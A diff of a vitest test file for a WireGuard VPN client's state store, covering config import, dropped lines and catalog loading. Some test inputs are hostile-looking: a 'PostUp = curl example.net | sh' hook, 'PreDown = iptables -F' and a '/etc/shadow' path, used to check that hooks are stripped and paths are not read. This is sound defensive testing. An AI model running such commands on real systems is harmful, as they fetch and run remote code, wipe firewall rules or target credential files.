@@ -4,8 +4,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { formatCidr, formatPublicKey } from '../../config/wg-quick.js';
-import { DEFAULT_SETTINGS, ErrorCode, RpcError } from '../../ipc/schema.js';
-import { StateStore } from './state-store.js';
+import { DEFAULT_SETTINGS, ErrorCode, MAX_CATALOG_TEXT_BYTES, RpcError } from '../../ipc/schema.js';
+import { MAX_IMPORT_NOTES, StateStore } from './state-store.js';
 import { catalogEntry, key, MULTI_PEER_CONF, PRESHARED_KEY, PRIVATE_KEY, PROVIDER_CONF, SECRETS, SERVER_KEY } from './testdata/configs.js';
 
 let root: string;
@@ -187,9 +187,9 @@ describe('atomic writes', () => {
 describe('importConfig', () => {
   it('one key with a different tunnel address per server keeps each server on its own address', async () => {
     const store = await open();
-    const a = await store.importConfig(PROVIDER_CONF, 'first');
+    const a = (await store.importConfig(PROVIDER_CONF, 'first')).server;
     const other = PROVIDER_CONF.replace('100.64.12.34/32', '100.64.99.7/32').replace('198.51.100.68:51820', '198.51.100.69:51820');
-    const b = await store.importConfig(other, 'second');
+    const b = (await store.importConfig(other, 'second')).server;
     expect(store.tunnelConfig(a.id).interface.addresses.map(formatCidr)).toContain('100.64.12.34/32');
     expect(store.tunnelConfig(b.id).interface.addresses.map(formatCidr)).toContain('100.64.99.7/32');
     // The same config again is the same profile, not a third one.
@@ -199,7 +199,7 @@ describe('importConfig', () => {
 
   it('a provider config gives one server and a profile, and no secret in servers(), JSON or logs', async () => {
     const store = await open();
-    const server = await store.importConfig(PROVIDER_CONF, 'Example VPN Sweden');
+    const server = (await store.importConfig(PROVIDER_CONF, 'Example VPN Sweden')).server;
     expect(server).toEqual({ id: 'example-vpn-sweden', name: 'Example VPN Sweden', endpoint: '198.51.100.68:51820', publicKey: SERVER_KEY, source: 'import' });
     expect(store.servers()).toEqual([server]);
     expect(store.server('example-vpn-sweden')).toEqual(server);
@@ -237,10 +237,10 @@ describe('importConfig', () => {
 
   it('without a name the id and name come from the endpoint; importing it again keeps one server', async () => {
     const store = await open();
-    const a = await store.importConfig(PROVIDER_CONF);
+    const a = (await store.importConfig(PROVIDER_CONF)).server;
     expect(a.id).toBe('198.51.100.68');
     expect(a.name).toBe('198.51.100.68:51820');
-    const b = await store.importConfig(PROVIDER_CONF);
+    const b = (await store.importConfig(PROVIDER_CONF)).server;
     expect(b.id).toBe(a.id);
     expect(store.servers()).toHaveLength(1);
     expect(((await readJson('profiles.json')).profiles as unknown[]).length).toBe(1);
@@ -249,15 +249,17 @@ describe('importConfig', () => {
   it('ids stay unique: the same name twice gets -2', async () => {
     const store = await open();
     await store.importConfig(PROVIDER_CONF, 'Home');
-    const other = await store.importConfig(PROVIDER_CONF.replace('198.51.100.68', '198.51.100.69'), 'Home');
+    const other = (await store.importConfig(PROVIDER_CONF.replace('198.51.100.68', '198.51.100.69'), 'Home')).server;
     expect(other.id).toBe('home-2');
     expect(store.servers().map((s) => s.id)).toEqual(['home', 'home-2']);
   });
 
   it('several peers give several servers; a peer without Endpoint is none', async () => {
     const store = await open();
-    const first = await store.importConfig(MULTI_PEER_CONF, 'Work Ünïcode VPN!');
+    const { server: first, notes } = await store.importConfig(MULTI_PEER_CONF, 'Work Ünïcode VPN!');
     expect(first.id).toBe('work-unicode-vpn');
+    // The peer without an Endpoint is left out, and the import says so (its [Peer] is on line 15).
+    expect(notes).toEqual([{ line: 15, key: '[Peer]', why: expect.stringMatching(/no Endpoint/) }]);
     expect(store.servers()).toEqual([
       { id: 'work-unicode-vpn', name: 'Work Ünïcode VPN! (vpn1.example.net)', endpoint: 'vpn1.example.net:51820', publicKey: SERVER_KEY, source: 'import' },
       { id: 'work-unicode-vpn-2', name: 'Work Ünïcode VPN! (2001:db8::77)', endpoint: '[2001:db8::77]:4500', publicKey: key(0x44), source: 'import' },
@@ -273,13 +275,11 @@ describe('importConfig', () => {
     const e = await rpcError(store.importConfig(bad));
     expect(e.code).toBe(ErrorCode.InvalidConfig);
     expect(e.message).toMatch(/^line 10: PublicKey is not a valid WireGuard key/);
-    const e2 = await rpcError(store.importConfig(PROVIDER_CONF.replace('MTU = 1380', 'PostUp = curl example.net | sh')));
-    expect(e2.message).toMatch(/^line 7: PostUp runs shell commands/);
     const e3 = await rpcError(store.importConfig(PROVIDER_CONF.replace('Endpoint = 198.51.100.68:51820', '')));
     expect(e3.message).toMatch(/no \[Peer\] with an Endpoint/);
     const e4 = await rpcError(store.importConfig(PROVIDER_CONF.replace(/^Address = .*$/m, '')));
     expect(e4.message).toMatch(/no Address/);
-    for (const err of [e, e2, e3, e4]) expectNoSecrets(err.message);
+    for (const err of [e, e3, e4]) expectNoSecrets(err.message);
     expect((await rpcError(store.importConfig(''))).code).toBe(ErrorCode.InvalidParams);
     expect((await rpcError(store.importConfig(PROVIDER_CONF, ' '))).code).toBe(ErrorCode.InvalidParams);
     expect(store.servers()).toEqual([]);
@@ -287,10 +287,34 @@ describe('importConfig', () => {
   });
 });
 
+describe('importConfig: what it left out', () => {
+  it('a config with shell hooks and helper-owned keys imports without them, each line named, nothing of them kept', async () => {
+    const store = await open();
+    const hooked = PROVIDER_CONF.replace('MTU = 1380', 'MTU = 1380\nListenPort = 51999\nTable = off\nFwMark = 0x7777\nSaveConfig = true\nPostUp = curl example.net | sh\nPreDown = iptables -F');
+    const { server, notes } = await store.importConfig(hooked, 'se');
+    expect(server.id).toBe('se');
+    expect(notes.map((n) => `${n.line} ${n.key}`)).toEqual(['8 ListenPort', '9 Table', '10 FwMark', '11 SaveConfig', '12 PostUp', '13 PreDown']);
+    expect(notes.find((n) => n.key === 'PostUp')!.why).toMatch(/kill switch replaces/);
+    // Nothing of those lines reaches the state files or the log.
+    const files = JSON.stringify([await readJson('profiles.json'), await readJson('servers.json')]) + logs.join('\n');
+    for (const dropped of ['curl', 'iptables', '51999', '0x7777', '30583']) expect(files).not.toContain(dropped);
+    expect(logs.at(-1)).toBe('imported 1 server from a WireGuard config: se; left out 6 lines (ListenPort, Table, FwMark, SaveConfig, PostUp, PreDown)');
+    expect(store.tunnelConfig('se').interface).not.toHaveProperty('listenPort');
+  });
+
+  it('at most MAX_IMPORT_NOTES notes; the last says how many more', async () => {
+    const store = await open();
+    const many = PROVIDER_CONF.replace('MTU = 1380', Array.from({ length: 80 }, (_, i) => `PostUp = echo ${i}`).join('\n'));
+    const { notes } = await store.importConfig(many);
+    expect(notes).toHaveLength(MAX_IMPORT_NOTES);
+    expect(notes.at(-1)).toEqual({ line: 7 + MAX_IMPORT_NOTES - 1, key: '…', why: `and ${80 - MAX_IMPORT_NOTES + 1} more lines left out, from this line on` });
+  });
+});
+
 describe('tunnelConfig', () => {
   it('merges the profile interface with the one server as the peer', async () => {
     const store = await open();
-    const server = await store.importConfig(PROVIDER_CONF, 'se');
+    const server = (await store.importConfig(PROVIDER_CONF, 'se')).server;
     await store.loadCatalog({ servers: [catalogEntry({ allowedIPs: ['0.0.0.0/0'] })] });
     const cfg = store.tunnelConfig(server.id);
     expect(formatPublicKey(cfg.interface.privateKey)).toBe(PRIVATE_KEY);
@@ -329,7 +353,7 @@ describe('catalogs', () => {
   it('loads catalog servers with the newest profile, replaces earlier ones and keeps imported ones', async () => {
     const store = await open();
     await store.importConfig(PROVIDER_CONF, 'Old provider');
-    const newer = await store.importConfig(MULTI_PEER_CONF, 'New provider');
+    const newer = (await store.importConfig(MULTI_PEER_CONF, 'New provider')).server;
     const all = await store.loadCatalog({ servers: [catalogEntry(), catalogEntry({ id: 'new-provider', name: 'Clash', endpoint: 'x.example:1' })] });
     expect(all.map((s) => [s.id, s.source])).toEqual([
       ['old-provider', 'import'],
@@ -369,7 +393,7 @@ describe('catalogs', () => {
 
   it('removing the last server of a profile deletes the profile; catalogs then need a new import', async () => {
     const store = await open();
-    const s = await store.importConfig(PROVIDER_CONF);
+    const s = (await store.importConfig(PROVIDER_CONF)).server;
     expect((await rpcError(store.removeServer('nope'))).code).toBe(ErrorCode.NotFound);
     expect(await store.removeServer(s.id)).toEqual([]);
     expect(await readJson('profiles.json')).toEqual({ schemaVersion: 1, profiles: [] });
@@ -380,7 +404,7 @@ describe('catalogs', () => {
 
   it('a profile still used by catalog servers stays when its imported server goes', async () => {
     const store = await open();
-    const s = await store.importConfig(PROVIDER_CONF);
+    const s = (await store.importConfig(PROVIDER_CONF)).server;
     await store.loadCatalog({ servers: [catalogEntry()] });
     await store.removeServer(s.id);
     expect(formatPublicKey(store.tunnelConfig('se-got-001').interface.privateKey)).toBe(PRIVATE_KEY);
@@ -403,14 +427,29 @@ describe('catalogs', () => {
 });
 
 describe('loadCatalogFrom', () => {
-  it('reads a file and downloads a URL', async () => {
+  it('parses text a client read and downloads a URL', async () => {
     const store = await open();
     await store.importConfig(PROVIDER_CONF);
-    const file = join(root, 'catalog.json');
-    await writeFile(file, JSON.stringify({ servers: [catalogEntry()] }));
-    expect((await store.loadCatalogFrom({ file })).map((s) => s.id)).toEqual(['198.51.100.68', 'se-got-001']);
+    expect((await store.loadCatalogFrom({ text: `\uFEFF${JSON.stringify({ servers: [catalogEntry()] })}` })).map((s) => s.id)).toEqual(['198.51.100.68', 'se-got-001']);
     const fakeFetch = (async () => new Response(JSON.stringify({ servers: [catalogEntry({ id: 'fi-hel-001' })] }))) as typeof fetch;
     expect((await store.loadCatalogFrom({ url: 'https://catalog.example/servers.json' }, fakeFetch)).map((s) => s.id)).toEqual(['198.51.100.68', 'fi-hel-001']);
+  });
+
+  it('text is only parsed: a path in it is not JSON, the same error whatever the path names', async () => {
+    const store = await open();
+    await store.importConfig(PROVIDER_CONF);
+    const secret = join(root, 'secret.json');
+    await writeFile(secret, JSON.stringify({ servers: [catalogEntry({ id: 'from-a-file' })] }));
+    const messages = new Set<string>();
+    for (const text of [secret, join(root, 'missing.json'), root, '/etc/shadow']) {
+      const e = await rpcError(store.loadCatalogFrom({ text }));
+      expect(e.code).toBe(ErrorCode.InvalidConfig);
+      messages.add(e.message);
+    }
+    expect([...messages]).toEqual(['the catalog is not valid JSON; a catalog is a JSON file']);
+    expect(store.servers().map((s) => s.id)).toEqual(['198.51.100.68']);
+    const big = JSON.stringify({ servers: [catalogEntry({ name: 'x'.repeat(MAX_CATALOG_TEXT_BYTES) })] });
+    expect((await rpcError(store.loadCatalogFrom({ text: big }))).message).toMatch(/at most 192 KiB; load a larger one by URL/);
   });
 
   it('without a profile: NoProfile before reading anything', async () => {
@@ -428,7 +467,7 @@ describe('loadCatalogFrom', () => {
 describe('desired state', () => {
   it('round trips and checks the server', async () => {
     const store = await open();
-    const s = await store.importConfig(PROVIDER_CONF);
+    const s = (await store.importConfig(PROVIDER_CONF)).server;
     await store.setDesired({ wantConnected: true, serverId: s.id });
     expect(await readJson('state.json')).toEqual({ schemaVersion: 1, wantConnected: true, serverId: s.id });
     await store.setDesired({ wantConnected: false });
